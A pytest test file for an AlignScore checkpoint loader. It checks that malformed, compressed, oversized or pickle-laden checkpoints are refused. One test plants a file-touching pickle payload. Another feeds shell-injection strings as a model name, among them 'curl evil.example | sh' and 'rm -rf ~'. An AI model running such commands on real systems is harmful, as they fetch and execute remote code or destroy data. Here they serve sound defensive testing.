"""Tests of .official, .backbones, .weights: small random checkpoints of the official layout."""

import copy
import json
import re
import shutil
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from torch import Tensor
from transformers import (
    AlbertConfig,
    AutoConfig,
    AutoModel,
    AutoTokenizer,
    BertConfig,
    DebertaV2Config,
    DistilBertConfig,
    PretrainedConfig,
    RobertaConfig,
)

from alignscore_metric.checkpoint.backbones import ARCHITECTURES, find_backbone
from alignscore_metric.checkpoint.loading import load_checkpoint
from alignscore_metric.errors import CheckpointError, ConfigurationError, MissingResourceError
from alignscore_metric.metric import AlignScore

SIZES = {
    "vocab_size": 270,
    "hidden_size": 16,
    "num_hidden_layers": 2,
    "num_attention_heads": 2,
    "intermediate_size": 24,
    "max_position_embeddings": 514,
    "initializer_range": 0.4,
    "pad_token_id": 1,
}
FAMILIES: dict[str, PretrainedConfig] = {
    "roberta": RobertaConfig(**SIZES, type_vocab_size=1),
    "bert": BertConfig(**SIZES),
    "albert": AlbertConfig(**SIZES, embedding_size=8),
    "deberta-v2": DebertaV2Config(
        **SIZES, relative_attention=True, position_buckets=8, pos_att_type=["p2c", "c2p"]
    ),
}
SOURCE = "The old bridge was closed on Monday. Inspectors had found cracks in it. " * 3
SUMMARIES = ["The bridge was closed.", "Nobody found anything. It stays open?", "1 2 3"]
TOLERANCE = 1e-6
Official = tuple[Path, Path]  # the checkpoint, and the folder of its backbone


def official_content(config: PretrainedConfig) -> dict[str, Any]:
    """What Lightning saves of the reference's module, with random weights."""
    torch.manual_seed(3)
    base = AutoModel.from_config(config)
    for name, parameter in base.named_parameters():
        # Much attention, so that the first token's state depends on the text.
        torch.nn.init.normal_(parameter, std=2.0 if "attention" in name else 0.4)
    width = config.hidden_size
    weights = {f"base_model.{name}": tensor for name, tensor in base.state_dict().items()}
    for head, classes in (("bin", 2), ("tri", 3), ("reg", 1)):
        weights[f"{head}_layer.weight"] = torch.randn(classes, width) / 2
        weights[f"{head}_layer.bias"] = torch.randn(classes)
    if config.model_type == "deberta-v2":
        weights["pooler.dense.weight"] = torch.randn(width, width) / 4
        weights["pooler.dense.bias"] = torch.randn(width)
    weights["base_model.embeddings.position_ids"] = torch.arange(514)[None]
    weights["mlm_head.decoder.weight"] = torch.randn(config.vocab_size, width)
    return {
        "epoch": 2,
        "global_step": 7,
        "pytorch-lightning_version": "1.7.7",
        "state_dict": weights,
        "callbacks": {"ModelCheckpoint{'monitor': None}": {"best_model_score": torch.tensor(0.5)}},
        "optimizer_states": [{"state": {0: {"exp_avg": torch.randn(50, 16)}}}],
        "lr_schedulers": [{"base_lrs": [1e-5], "lr_lambdas": [None]}],
        "hyper_parameters": {"model": "roberta-base", "adam_epsilon": 1e-6},
    }


def write_official(folder: Path, tokenizer: Path, config: PretrainedConfig) -> Official:
    backbone = folder / "backbone"
    shutil.copytree(tokenizer, backbone)
    config.save_pretrained(backbone)
    torch.save(official_content(config), folder / "Align-tiny.ckpt")
    return folder / "Align-tiny.ckpt", backbone


@pytest.fixture
def official(tmp_path: Path, byte_tokenizer: Path) -> Official:
    return write_official(tmp_path, byte_tokenizer, FAMILIES["roberta"])


def plain_logits(file: Path, backbone: Path, summary: str) -> dict[str, Tensor]:
    """The three heads' logits for one whole pair, by transformers and by hand."""
    weights = torch.load(file, weights_only=True)["state_dict"]
    tokenizer = AutoTokenizer.from_pretrained(backbone)
    config = AutoConfig.from_pretrained(backbone)
    model = AutoModel.from_config(config).eval()
    start = "base_model."
    names = set(model.state_dict())
    model.load_state_dict(
        {k[len(start) :]: v for k, v in weights.items() if k[len(start) :] in names}
    )
    inputs = tokenizer(
        SOURCE, summary, truncation="only_first", max_length=512, return_tensors="pt"
    )
    with torch.no_grad():
        output = model(**inputs)
        if config.model_type == "deberta-v2":
            first = output.last_hidden_state[:, 0]
            dense = first @ weights["pooler.dense.weight"].T + weights["pooler.dense.bias"]
            pooled = torch.nn.functional.gelu(dense)
        else:
            pooled = output.pooler_output
    return {
        head: (pooled @ weights[f"{head}_layer.weight"].T + weights[f"{head}_layer.bias"])[0]
        for head in ("bin", "tri", "reg")
    }


@pytest.mark.parametrize("family", FAMILIES)
def test_every_family_against_transformers_alone(family: str, tmp_path: Path, byte_tokenizer: Path):
    file, backbone = write_official(tmp_path, byte_tokenizer, FAMILIES[family])
    for mode in ("nli", "bin", "reg"):
        metric = AlignScore(file, backbone=backbone, mode=mode, device="cpu", progress=False)
        expected = []
        for summary in SUMMARIES:
            logits = plain_logits(file, backbone, summary)
            probabilities = {head: found.softmax(dim=0) for head, found in logits.items()}
            expected.append(
                {
                    "nli": float(probabilities["tri"][0]),
                    "bin": float(probabilities["bin"][1]),
                    "reg": float(logits["reg"][0]),
                }[mode]
            )
        assert max(expected) - min(expected) > 20 * TOLERANCE
        scores = metric.score([SOURCE] * len(SUMMARIES), SUMMARIES)
        assert scores == pytest.approx(expected, abs=TOLERANCE)


# Whole pairs.


def test_a_whole_pair_is_one_chunk_and_one_sentence(official: Official):
    metric = AlignScore(official[0], backbone=official[1], mode="bin", progress=False)
    (found,) = metric.explain(SOURCE, SUMMARIES[1])
    assert (found.chunk, found.sentence, found.chunk_index) == (SOURCE, SUMMARIES[1], 0)
    assert metric.score([SOURCE], [SUMMARIES[1]]) == [found.score]


def test_passages_of_a_whole_pair_are_joined(official: Official):
    metric = AlignScore(official[0], backbone=official[1], mode="nli", progress=False)
    apart, joined = ["One is here.", "  ", "Two."], "One is here. Two."
    assert metric.score([apart], ["Two."]) == metric.score([joined], ["Two."])
    assert metric.score([apart], ["Two."]) != metric.score([apart[0]], ["Two."])


def test_a_blank_summary_of_a_whole_pair_has_no_score(official: Official):
    result = AlignScore(official[0], backbone=official[1], mode="nli", progress=False).evaluate(
        [SOURCE] * 3, ["", " \n", "One."]
    )
    assert result.undefined == 2
    assert 0 < result.mean < 1


@pytest.mark.usefixtures("no_nltk_data")
def test_whole_pairs_need_no_splitter(official: Official):
    """The profile names NLTK's Punkt, whose data is absent here."""
    metric = AlignScore(official[0], backbone=official[1], mode="nli", progress=False)
    assert "|splitter:none|chunk:whole|claims:whole|" in metric.signature
    with pytest.raises(MissingResourceError, match="punkt_tab"):
        AlignScore(official[0], backbone=official[1], mode="nli_sp", progress=False)


def test_mode_and_head(official: Official):
    options = {"backbone": official[1], "progress": False}
    assert AlignScore(official[0], mode="bin", head="bin", **options).profile.head == "bin"
    with pytest.raises(ConfigurationError, match="mode 'bin' reads the head 'bin', not 'tri'"):
        AlignScore(official[0], mode="bin", head="tri", **options)
    with pytest.raises(ConfigurationError, match="known modes: nli_sp, bin_sp"):
        AlignScore(official[0], mode="nli-sp", **options)


# Files that are refused.


class Payload:
    """Creates a file when a pickle is trusted."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Callable[[str], Any], tuple[str]]:
        return Path.touch, (self.file,)


@pytest.mark.parametrize("place", ["callbacks", "state_dict", "hyper_parameters"])
def test_a_pickle_payload_is_refused_and_not_run(official: Official, tmp_path: Path, place: str):
    file, backbone = official
    trap = tmp_path / "created"
    content = official_content(FAMILIES["roberta"])
    content[place]["model"] = Payload(trap)
    torch.save(content, file)
    with pytest.raises(CheckpointError, match=r"refused: it holds the object '.+' beside tensors"):
        load_checkpoint(file, backbone=backbone)
    assert not trap.exists()
    torch.load(file, weights_only=False)
    assert trap.exists()  # the payload works where it is trusted


def without(name: str) -> Callable[[dict[str, Any]], None]:
    return lambda content: content["state_dict"].pop(name)


def with_tensor(name: str, *shape: int) -> Callable[[dict[str, Any]], None]:
    return lambda content: content["state_dict"].update({name: torch.zeros(*shape)})


KEY = "base_model.encoder.layer.1.output.dense.weight"
HARMS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "missing tensor": (without(KEY), r"missing keys: encoder\.encoder\.layer\.1\.output\.dense"),
    "missing head": (without("tri_layer.bias"), r"missing keys: tri_layer\.bias"),
    "extra tensor": (with_tensor("base_model.adapter", 2), r"unexpected keys: encoder\.adapter"),
    "foreign tensor": (with_tensor("qa_layer.weight", 2), r"unexpected keys: qa_layer\.weight"),
    "wrong shape": (with_tensor(KEY, 3, 4), r"mismatched keys: .*layer\.1\.output\.dense.*3, 4"),
    "no state_dict": (lambda content: content.pop("state_dict"), "has no 'state_dict'"),
    "not tensors": (lambda content: content.update(state_dict=[1]), "a list, not named tensors"),
    "a value": (
        lambda content: content["state_dict"].update(version=3),
        "'version' is a int, not a tensor",
    ),
}


@pytest.mark.parametrize("harm", HARMS)
def test_a_wrong_checkpoint_is_refused_by_name(official: Official, harm: str):
    file, backbone = official
    change, message = HARMS[harm]
    content = official_content(FAMILIES["roberta"])
    change(content)
    torch.save(content, file)
    with pytest.raises(CheckpointError, match=message) as caught:
        load_checkpoint(file, backbone=backbone)
    assert str(file) in str(caught.value)


@pytest.mark.parametrize("share", [0.0, 0.4, 0.999])
def test_a_truncated_checkpoint(official: Official, share: float):
    file, backbone = official
    content = file.read_bytes()
    file.write_bytes(content[: int(share * len(content))])
    with pytest.raises(CheckpointError, match="is cut short"):
        load_checkpoint(file, backbone=backbone)


def test_a_zip_file_of_something_else(official: Official):
    file, backbone = official
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/hello.txt", "hello")
    with pytest.raises(CheckpointError, match="is damaged"):
        load_checkpoint(file, backbone=backbone)


def pack_again(file: Path, compression: int) -> None:
    with zipfile.ZipFile(file) as archive:
        content = {entry.filename: archive.read(entry) for entry in archive.infolist()}
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, data in content.items():
            archive.writestr(name, data)


@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_compressed_checkpoint_is_refused(official: Official, compression: int):
    """Mapped, its bytes would be taken for numbers; unpacked, it might fill the memory."""
    file, backbone = official
    pack_again(file, compression)
    with pytest.raises(CheckpointError, match="is compressed; fetch the original, or unpack it"):
        load_checkpoint(file, backbone=backbone)


def test_a_checkpoint_zipped_again_without_compression_is_the_same(official: Official):
    file, backbone = official
    again = Path(shutil.copy(file, file.with_name("again.ckpt")))
    pack_again(again, zipfile.ZIP_STORED)
    before, after = (
        load_checkpoint(each, backbone=backbone).aligner.state_dict() for each in (file, again)
    )
    assert all(torch.equal(before[name], after[name]) for name in before)


def test_entries_that_share_their_bytes_are_refused(official: Official):
    """A directory that names one entry a hundred times: stored, and larger than its file."""
    file, backbone = official
    with zipfile.ZipFile(file, "a") as archive:
        largest = max(archive.infolist(), key=lambda entry: entry.file_size)
        for number in range(100):
            entry = copy.copy(largest)
            entry.filename = f"archive/data/again{number}"
            archive.filelist.append(entry)
        archive._didModify = True
    with pytest.raises(CheckpointError, match="its entries overlap"):
        load_checkpoint(file, backbone=backbone)


NO_WEIGHTS: dict[str, Callable[[Tensor], Tensor]] = {
    "whole numbers": lambda tensor: tensor.long(),
    "bits": lambda tensor: tensor > 0,
    "complex": lambda tensor: tensor.to(torch.complex64),
    "sparse": lambda tensor: tensor.to_sparse(),
    "without content": lambda tensor: tensor.to("meta"),
    "repeated": lambda tensor: torch.zeros(1).expand(tensor.shape),
    "overlapping": lambda tensor: torch.zeros(200).as_strided(tensor.shape, (1, 1)),
}


@pytest.mark.parametrize("kind", NO_WEIGHTS)
def test_tensors_that_are_no_weights_are_refused_by_name(official: Official, kind: str):
    file, backbone = official
    content = official_content(FAMILIES["roberta"])
    content["state_dict"][KEY] = NO_WEIGHTS[kind](content["state_dict"][KEY])
    torch.save(content, file)
    with pytest.raises(CheckpointError, match=r"layer\.1\.output\.dense\.weight' (is no|has 384)"):
        load_checkpoint(file, backbone=backbone)


@pytest.mark.parametrize("dtype", [torch.float16, torch.bfloat16, torch.float64])
def test_weights_of_any_real_type_are_taken(official: Official, dtype: torch.dtype):
    file, backbone = official
    content = official_content(FAMILIES["roberta"])
    exact = content["state_dict"]["tri_layer.weight"]
    content["state_dict"]["tri_layer.weight"] = exact.to(dtype)
    torch.save(content, file)
    found = load_checkpoint(file, backbone=backbone).aligner.tri_layer.weight
    assert found.dtype == torch.float32
    assert torch.equal(found, exact.to(dtype).float())


LARGE = {"num_hidden_layers": 20_000, "vocab_size": 10**9, "max_position_embeddings": 10**9}
LARGE |= {"hidden_size": 10**6, "intermediate_size": 10**9, "type_vocab_size": 10**9}


@pytest.mark.parametrize("key", LARGE)
def test_a_configuration_that_asks_for_more_than_the_weights_is_refused_at_once(
    tiny_aligner: Path, tmp_path: Path, key: str
):
    folder = changed(tiny_aligner, tmp_path, backbone={key: LARGE[key]})
    started = time.perf_counter()
    with pytest.raises(CheckpointError, match=rf"{key} \d+ \(the configuration's: {LARGE[key]}\)"):
        load_checkpoint(folder)
    assert time.perf_counter() - started < 20  # 20,000 layers took minutes


def test_more_copied_ngrams_than_embeddings(tiny_aligner: Path, tmp_path: Path):
    folder = changed(tiny_aligner, tmp_path, copied_ngrams=10**9)
    with pytest.raises(CheckpointError, match="no embeddings for the configuration's copied_ngr"):
        load_checkpoint(folder)


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"num_hidden_layers": 20_000}, "asks for 20000 layers"),  # they share one layer's weights
        ({"inner_group_num": 10**9}, "asks for too much: inner_group_num 1000000000"),
        ({"num_hidden_groups": 10**9}, "asks for too much: num_hidden_groups"),
    ],
)
def test_sizes_that_weights_do_not_tell_have_bounds(
    tmp_path: Path, byte_tokenizer: Path, values: dict[str, int], message: str
):
    file, backbone = write_official(tmp_path, byte_tokenizer, FAMILIES["albert"])
    AlbertConfig(**{**SIZES, "embedding_size": 8, **values}).save_pretrained(backbone)
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(file, backbone=backbone)


def changed(aligner: Path, folder: Path, **values: Any) -> Path:
    """A copy of a saved aligner with other values in its configuration."""
    copied = shutil.copytree(aligner, folder / "copy")
    config = json.loads((copied / "config.json").read_text())
    config |= {key: v for key, v in values.items() if key != "backbone"}
    config["backbone"] |= values.get("backbone", {})
    (copied / "config.json").write_text(json.dumps(config))
    return copied


def test_a_tokenizer_with_ids_beyond_the_embeddings_is_refused(tiny_aligner: Path, tmp_path: Path):
    folder = changed(tiny_aligner, tmp_path)
    tokenizer = AutoTokenizer.from_pretrained(folder)
    tokenizer.add_tokens([f"word{number}" for number in range(300)])
    tokenizer.save_pretrained(folder)
    with pytest.raises(CheckpointError, match=r"ids up to \d+, but the encoder has embedd"):
        load_checkpoint(folder)


@pytest.mark.parametrize("place", ["vocabulary", "added"])
def test_a_vocabulary_that_leaves_ids_out_is_seen_by_its_largest(
    tiny_aligner: Path, tmp_path: Path, place: str
):
    folder = changed(tiny_aligner, tmp_path)
    content = json.loads((folder / "tokenizer.json").read_text())
    if place == "vocabulary":
        vocabulary = content["model"]["vocab"]
        vocabulary[max(vocabulary, key=vocabulary.__getitem__)] = 8000  # as many tokens as before
    else:
        token = content["added_tokens"][0] | {"id": 8000, "content": "[RARE]"}
        content["added_tokens"].append(token)
        content["model"]["vocab"]["[RARE]"] = 8000
    (folder / "tokenizer.json").write_text(json.dumps(content))
    with pytest.raises(CheckpointError, match="ids up to 8000, but the encoder has embeddings"):
        load_checkpoint(folder)


def test_a_template_with_ids_beyond_the_embeddings_is_refused(tiny_aligner: Path, tmp_path: Path):
    folder = changed(tiny_aligner, tmp_path)
    content = json.loads((folder / "tokenizer.json").read_text())
    content["post_processor"] = {
        "type": "TemplateProcessing",
        "single": [{"Sequence": {"id": "A", "type_id": 0}}],
        "pair": [
            {"Sequence": {"id": "A", "type_id": 0}},
            {"SpecialToken": {"id": "[SEP]", "type_id": 0}},
            {"Sequence": {"id": "B", "type_id": 1}},
        ],
        "special_tokens": {"[SEP]": {"id": "[SEP]", "ids": [9000], "tokens": ["[SEP]"]}},
    }
    (folder / "tokenizer.json").write_text(json.dumps(content))
    settings = json.loads((folder / "tokenizer_config.json").read_text())
    settings["tokenizer_class"] = "PreTrainedTokenizerFast"  # which takes the file at its word
    (folder / "tokenizer_config.json").write_text(json.dumps(settings))
    with pytest.raises(CheckpointError, match="ids up to 9000, but the encoder has embedd"):
        load_checkpoint(folder)


# Backbones.


@pytest.mark.usefixtures("hub_cache")
@pytest.mark.parametrize(
    "name",
    ["x; curl evil.example | sh #", "$(id)", "a`id`", "-rf", "a\nrm -rf ~", "\x1b[2J", "a b"],
)
def test_no_command_is_made_of_text_in_a_file(official: Official, name: str):
    content = official_content(FAMILIES["roberta"])
    content["hyper_parameters"]["model"] = name
    torch.save(content, official[0])
    with pytest.raises(MissingResourceError) as caught:
        load_checkpoint(official[0])
    message = str(caught.value)
    assert "hf download" not in message
    assert repr(name) in message
    assert message.isprintable()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"num_hidden_layers": 3}, r"num_hidden_layers 2 \(the backbone's: 3\)"),
        ({"hidden_size": 32}, r"hidden_size 16 \(the backbone's: 32\)"),
        ({"vocab_size": 300}, r"vocab_size 270 \(the backbone's: 300\)"),
        ({"type_vocab_size": 2}, r"type_vocab_size 1 \(the backbone's: 2\)"),
        ({"vocab_size": 100}, r"has 261 tokens, but the backbone .* has embeddings for 100"),
    ],
)
def test_a_wrong_backbone_is_named_as_such(
    official: Official, change: dict[str, int], message: str
):
    file, backbone = official
    RobertaConfig(**{**SIZES, "type_vocab_size": 1, **change}).save_pretrained(backbone)
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(file, backbone=backbone)


def test_a_backbone_of_another_family(official: Official):
    file, backbone = official
    AlbertConfig(**SIZES, type_vocab_size=1, embedding_size=16).save_pretrained(backbone)
    with pytest.raises(CheckpointError, match="is not a complete aligner: missing keys"):
        load_checkpoint(file, backbone=backbone)
    DistilBertConfig(vocab_size=270).save_pretrained(backbone)
    with pytest.raises(ConfigurationError, match="is a 'distilbert'; known: roberta"):
        load_checkpoint(file, backbone=backbone)


def test_a_backbone_for_a_folder_that_has_its_own(tiny_aligner: Path):
    with pytest.raises(ConfigurationError, match="leave backbone= out"):
        load_checkpoint(tiny_aligner, backbone="roberta-base")


@pytest.fixture
def hub_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    from huggingface_hub import constants

    folder = tmp_path / "hub"
    folder.mkdir()
    monkeypatch.setattr(constants, "HF_HUB_CACHE", str(folder))
    return folder


@pytest.mark.usefixtures("hub_cache")
@pytest.mark.parametrize("backbone", [None, "roberta-base"])
def test_a_named_backbone_that_is_not_here(official: Official, backbone: str | None):
    """Without one, the name that the checkpoint gives."""
    with pytest.raises(MissingResourceError, match="hf download FacebookAI/roberta-base --include"):
        load_checkpoint(official[0], backbone=backbone)
    with pytest.raises(MissingResourceError, match=r"'no/such/folder' is neither a folder nor"):
        load_checkpoint(official[0], backbone="no/such/folder")


@pytest.mark.parametrize("repository", ["roberta-base", "FacebookAI/roberta-base"])
def test_a_named_backbone_in_the_cache(hub_cache: Path, byte_tokenizer: Path, repository: str):
    """With its tokenizer alone: the architecture of a well-known name is known."""
    folder = hub_cache / f"models--{repository.replace('/', '--')}"
    shutil.copytree(byte_tokenizer, folder / "snapshots" / "abc")
    (folder / "refs").mkdir()
    (folder / "refs" / "main").write_text("abc")
    found = find_backbone("roberta-base")
    assert (found.name, found.config.hidden_size, len(found.tokenizer)) == (
        "roberta-base",
        768,
        261,
    )
    FAMILIES["roberta"].save_pretrained(folder / "snapshots" / "abc")
    assert find_backbone("roberta-base").config.hidden_size == 16


def test_a_checkpoint_that_names_no_backbone(official: Official):
    content = official_content(FAMILIES["roberta"])
    del content["hyper_parameters"]
    torch.save(content, official[0])
    with pytest.raises(ConfigurationError, match="give backbone=, as roberta-large"):
        load_checkpoint(official[0])
    assert load_checkpoint(official[0], backbone=official[1]).name == "Align-tiny"


@pytest.mark.parametrize(
    ("name", "parameters"),
    [
        ("roberta-base", 124_645_632),
        ("roberta-large", 355_359_744),
        ("bert-base-uncased", 109_482_240),
        ("bert-large-uncased", 335_141_888),
    ],
)
def test_known_architectures_have_the_published_size(name: str, parameters: int):
    """Parameters with the pooler, as transformers counts them in the published models."""
    with torch.device("meta"):
        model = AutoModel.from_config(AutoConfig.for_model(**ARCHITECTURES[name]))
    assert model.num_parameters() == parameters


def test_a_folder_without_a_tokenizer(official: Official):
    for file in official[1].glob("*token*"):
        file.unlink()
    with pytest.raises(CheckpointError, match=re.escape("put its tokenizer.json there")):
        load_checkpoint(official[0], backbone=official[1])
